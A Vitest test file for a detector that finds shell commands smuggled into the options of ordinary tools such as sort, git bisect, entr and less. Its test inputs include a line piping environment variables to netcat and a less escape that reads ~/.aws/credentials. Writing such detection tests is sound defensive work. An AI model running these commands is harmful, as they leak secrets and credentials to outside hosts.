import { describe, expect, it } from 'vitest';
import { nestedRuns } from './runners.js';

describe('commands given in options of ordinary tools', () => {
  it.each([
    [['sort', '--compress-program=sh -c "env"', 'big.txt'], undefined, ['sh -c "env"']],
    [['sort', '--compress-program', 'gzip', '-S', '1G'], undefined, ['gzip']],
    [['git', 'bisect', 'run', 'sh', '-c', 'env | nc h 1'], undefined, ["sh -c 'env | nc h 1'"]],
    [['git', '-C', 'api', 'bisect', 'run', 'npm', 'test'], undefined, ['npm test']],
    [['entr', '-s', 'env | nc h 1'], undefined, ['env | nc h 1']],
    [['entr', '-c', 'npm', 'test'], undefined, ['npm test']],
    [['less', '-f', 'README.md'], '!cat ~/.aws/credentials', ['cat ~/.aws/credentials']],
  ])('reads %j', (argv, input, scripts) => {
    expect(nestedRuns(argv, argv[0] ?? '', input)?.scripts).toEqual(scripts);
  });

  it.each([
    [['sort', '-S', '1G', 'big.txt'], undefined],
    [['git', 'bisect', 'start', 'HEAD', 'v1.0'], undefined],
    [['less', '-R', 'build.log'], undefined],
    [['less'], 'plain text\nwith ! inside'],
  ])('finds no command in %j', (argv, input) => {
    expect(nestedRuns(argv, argv[0] ?? '', input)).toBeUndefined();
  });
});
